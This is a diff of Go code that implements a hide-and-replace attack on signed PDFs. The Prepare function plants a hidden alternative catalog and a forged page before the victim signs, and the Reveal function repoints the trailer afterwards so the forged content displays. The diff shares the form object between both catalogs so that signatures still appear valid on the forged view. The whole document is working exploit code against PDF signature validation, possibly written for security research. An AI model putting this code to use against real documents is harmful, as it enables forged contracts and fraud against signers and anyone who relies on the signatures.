@@ -254,7 +254,7 @@ func ShadowReplace(signed []byte) ([]byte, error) {
 // Prepare is the first half of the hide-and-replace attack, done before the victim signs:
 // it appends an update with an alternative catalog (a copy of the real one whose /Pages is
 // an alternative page tree), that tree and a copy of page 1 whose content is Forged, none
-// of them referenced. It returns the new file and the alternative catalog's number, for
+// of them referenced (the form becomes an object both catalogs share). It returns the new file and the alternative catalog's number, for
 // Reveal.
 func Prepare(unsigned []byte) ([]byte, int, error) {
 	d, err := read(unsigned)
@@ -271,7 +271,20 @@ func Prepare(unsigned []byte) ([]byte, int, error) {
 		"Contents":  *types.NewIndirectRef(content, 0)}
 	u.object(page, p.PDFString())
 	u.object(pages, fmt.Sprintf("<< /Type /Pages /Kids [%d 0 R] /Count 1 >>", page))
-	c := d.catalog.Clone().(types.Dict)
+	real := d.catalog.Clone().(types.Dict)
+	if _, indirect := real["AcroForm"].(types.IndirectRef); !indirect {
+		// The signer will write its field into the form: make the form an object both
+		// catalogs share, so the alternative view still shows the signatures.
+		af := types.Dict{"Fields": types.Array{}}
+		if x, err := d.ctx.DereferenceDict(real["AcroForm"]); err == nil && x != nil {
+			af = x.Clone().(types.Dict)
+		}
+		n := u.alloc()
+		u.object(n, af.PDFString())
+		real.Update("AcroForm", *types.NewIndirectRef(n, 0))
+		u.object(d.root.ObjectNumber.Value(), real.PDFString())
+	}
+	c := real.Clone().(types.Dict)
 	c.Update("Pages", *types.NewIndirectRef(pages, 0))
 	u.object(cat, c.PDFString())
 	// Not referenced: the real trailer keeps the real catalog.
@@ -287,9 +300,6 @@ func Reveal(signed []byte, altCatalog int) ([]byte, error) {
 		return nil, err
 	}
 	u := d.update()
-	// The signing update rewrote the catalog's /AcroForm; copy the real catalog's current
-	// form into the alternative one would need a new object, so keep the objects as signed
-	// and only repoint the trailer.
 	u.root = *types.NewIndirectRef(altCatalog, 0)
 	return u.xref(true), nil
 }
